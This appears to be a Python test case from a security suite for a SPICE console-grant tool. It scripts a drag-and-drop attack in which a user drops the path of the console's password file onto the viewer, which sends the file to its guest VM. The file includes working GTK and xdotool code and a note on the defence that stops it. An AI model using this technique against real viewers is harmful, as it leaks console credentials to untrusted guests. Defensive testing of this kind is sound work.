"""A granted user drops the path of a file with the console's password on the viewer, which sends it to its guest."""

from attacks.stage import Stage
from scenes import GROUP

RECIPE = "succeeds"
STOPPED_BY = "viewer: its connection file is empty once it was read"
NEEDS = ("Xvfb", "pgrep", "xdotool")
FILE = "/etc/spice-grant/vms/debianx.vv"
# Something on the screen that can be dragged: it is given as what is at a path.
DRAG = """
import ctypes
gtk, gobject, Pointer = ctypes.CDLL("libgtk-3.so.0"), ctypes.CDLL("libgobject-2.0.so.0"), ctypes.c_void_p

class Target(ctypes.Structure):
    _fields_ = [("target", ctypes.c_char_p), ("flags", ctypes.c_uint), ("info", ctypes.c_uint)]

uris = (ctypes.c_char_p * 2)(f"file://{sys.argv[1]}".encode(), None)

@ctypes.CFUNCTYPE(None, Pointer, Pointer, Pointer, ctypes.c_uint, ctypes.c_uint, Pointer)
def given(widget, context, data, info, moment, user):
    gtk.gtk_selection_data_set_uris(Pointer(data), uris)
    print("given", flush=True)

@ctypes.CFUNCTYPE(ctypes.c_int, Pointer, Pointer, Pointer)
def shown(widget, event, user):
    print("shown", flush=True)
    return 0

gtk.gtk_window_new.restype = gtk.gtk_event_box_new.restype = Pointer
gtk.gtk_init(None, None)
window, box = Pointer(gtk.gtk_window_new(1)), Pointer(gtk.gtk_event_box_new())
gtk.gtk_window_set_default_size(window, 60, 60)
gtk.gtk_container_add(window, box)
gtk.gtk_drag_source_set(box, 1 << 8, ctypes.byref(Target(b"text/uri-list", 0, 0)), 1, 2)
gobject.g_signal_connect_data(box, b"drag-data-get", given, None, None, 0)
gobject.g_signal_connect_data(window, b"map-event", shown, None, None, 0)
gtk.gtk_widget_show_all(window)
gtk.gtk_main()
"""
PATH = [word for place in range(30, 360, 30) for word in ("mousemove", f"{place}", f"{place}", "sleep", "0.03")]


def site(client):
    if client.form in ("bare", "recipe"):
        client.root("groupadd", "--force", "--system", GROUP)
        client.machine.write(FILE, "password=secret\n", mode=0o640, owner=f"root:{GROUP}")
        client.used.callback(client.machine.run, ["rm", "-r", "/etc/spice-grant"])


def attack(client):
    stage = Stage(client, code=False)
    stage.view()
    watch = stage.watch(FILE)
    by = ["env", *(f"{name}={value}" for name, value in stage.desktop.env.items())]
    drag = client.start(DRAG, FILE, user="myself", by=by)
    grip = ["mousemove", "20", "20", "mousedown", "1", "sleep", "0.2"]
    stage.desktop.run(["xdotool", *grip, *PATH, "sleep", "0.3", "mouseup", "1"])
    assert drag.hear() == "given"
    assert watch.hear() == "opened", "the viewer does not send it: this says nothing"
    return client.root("cat", f"/proc/{stage.viewer()}/root{FILE}").strip()
